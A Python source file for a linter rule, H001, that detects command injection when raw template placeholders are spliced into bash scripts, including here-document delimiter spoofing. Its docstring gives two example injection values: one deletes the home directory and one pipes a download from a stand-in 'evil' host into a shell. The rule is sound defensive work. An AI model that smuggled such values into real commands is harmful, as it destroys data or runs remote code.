"""Rule H001 (unsafe-raw-placeholder)."""

from __future__ import annotations

from collections.abc import Callable, Mapping
from typing import ClassVar, Literal

from mcp_harbor.check._facts import Hazard, Located, Occ
from mcp_harbor.check._values import ValueModel
from mcp_harbor.check.rules._base import Rule
from mcp_harbor.check.rules._contexts import CONTEXT_NAMES, Quoting
from mcp_harbor.check.rules.w104 import RawValueSplits

__all__ = ["UnsafeRawPlaceholder"]


#: What bash reads as syntax in an unquoted word.
UNQUOTED_SPECIAL = frozenset(" \t\n\r|&;<>()$`\\\"'*?[]{}~#!")
#: What bash reads as syntax inside double quotes.
DQ_SPECIAL = frozenset('$`"\\')
#: What bash reads as syntax, by quoting context.
DANGER: Mapping[Quoting, frozenset[str]] = {
    "unquoted": UNQUOTED_SPECIAL,
    "backticks": UNQUOTED_SPECIAL,
    "parameter-expansion": UNQUOTED_SPECIAL,
    "double": DQ_SPECIAL,
    "single": frozenset("'"),
    "ansi-c": frozenset("'\\"),
    "heredoc": DQ_SPECIAL | {"\n", "\r"},
    "heredoc-quoted": frozenset("\n\r"),
    "heredoc-delimiter": UNQUOTED_SPECIAL,
    "comment": frozenset("\n\r"),
}

#: A raw placeholder's line in a here-document body: the delimiter, the
#: line's text before the placeholder (``<<-``: its leading tabs stripped)
#: and after it.
HeredocLine = tuple[str, str, str]


class UnsafeRawPlaceholder(Rule):
    r"""A raw placeholder whose schema allows characters that are syntax where it is spliced.

    ## What it does
    Flags `{{ args.x }}` (no filter) when the arg's JSON Schema allows a
    character that bash reads as syntax in the quoting context of the
    placeholder: anything outside `[A-Za-z0-9_@%+=:,./-]` unquoted, `$`, backtick,
    `"` or `\` inside double quotes, `'` inside single quotes, a line break in a
    comment or quoted here-document.

    ## Why is this bad?
    A raw placeholder is text spliced into the script before bash parses it
    (the GitHub Actions `${{ }}` hazard). A value such as `x; rm -rf ~` or
    `$(curl evil|sh)` becomes code.

    ## Example
    ```yaml
    args: {branch: {type: string}}
    steps:
      - name: show
        run: git log {{ args.branch }}
    ```

    ## Use instead
    ```yaml
    steps:
      - name: show
        run: git log -- {{ args.branch | shellquote }}   # or: git log -- "$ARG_branch"
    ```
    or constrain the arg: `pattern: "^[A-Za-z0-9._/-]+$"`, an `enum`, `type: integer`.

    ## Known problems
    A pattern with lookarounds is analysed by the characters it consumes; that is
    conservative.

    ## References
    - CWE-78
    - zizmor `template-injection`
    """

    id: ClassVar[str] = "H001"
    name: ClassVar[str] = "unsafe-raw-placeholder"
    summary: ClassVar[str] = (
        "A raw placeholder whose schema allows characters that are syntax where it is spliced."
    )
    severity: ClassVar[Literal["error", "warning"]] = "error"

    @classmethod
    def detect(
        cls,
        occ: Occ,
        quoting: Quoting,
        where: Located,
        heredoc_line: Callable[[], HeredocLine | None],
    ) -> Hazard | None:
        """The finding about the raw placeholder `occ` spliced in `quoting`:
        this rule's when its schema allows a character bash reads as syntax
        there (`DANGER`), or, in a here-document body, when its line can
        spell the delimiter (`heredoc_line`, asked only there); W104
        (`RawValueSplits`) when those characters only split or glob the
        author's own words; None when no value is syntax there."""
        model = occ.model
        danger = DANGER[quoting]
        if quoting in ("heredoc", "heredoc-quoted") and spells_delimiter(model, heredoc_line()):
            return cls.about(
                occ,
                where,
                "the raw placeholder's line in the here-document can be exactly its "
                "delimiter, which ends the here-document early: the lines after it become "
                "commands",
                'write "$ARG" in an unquoted here-document instead, or give the arg a '
                "`pattern` that cannot spell the delimiter",
            )
        bad = model.chars & danger
        if not bad:
            return None
        splits = RawValueSplits.detect(occ, quoting, bad, where)
        if splits is not None:
            return splits
        shown = "".join(sorted(bad))[:12]
        return cls.about(
            occ,
            where,
            f"the raw placeholder is spliced into the script inside {CONTEXT_NAMES[quoting]} and "
            f"its schema allows {shown!r}, which bash reads as syntax there",
            "use `{{ args."
            + occ.arg
            + ' | shellquote }}` as an unquoted word, or "$ARG_'
            + occ.arg
            + '", or constrain the arg with an anchored `pattern`, an `enum` or '
            '`"type": "integer"`',
        )


def spells_delimiter(model: ValueModel, line: HeredocLine | None) -> bool:
    """A value of `model` can make its here-document line exactly the
    delimiter (`line`: the delimiter and the line's text around the value;
    None when the analysis could not follow the line, which counts as yes)."""
    if line is None:
        return True
    delimiter, before, after = line
    if not delimiter.startswith(before) or not delimiter.endswith(after):
        return False
    if len(before) + len(after) > len(delimiter):
        return False
    middle = delimiter[len(before) : len(delimiter) - len(after)]
    if model.words is not None:
        return middle in model.words
    if not middle:
        return model.can_be_empty
    return set(middle) <= model.chars and middle[0] in model.first
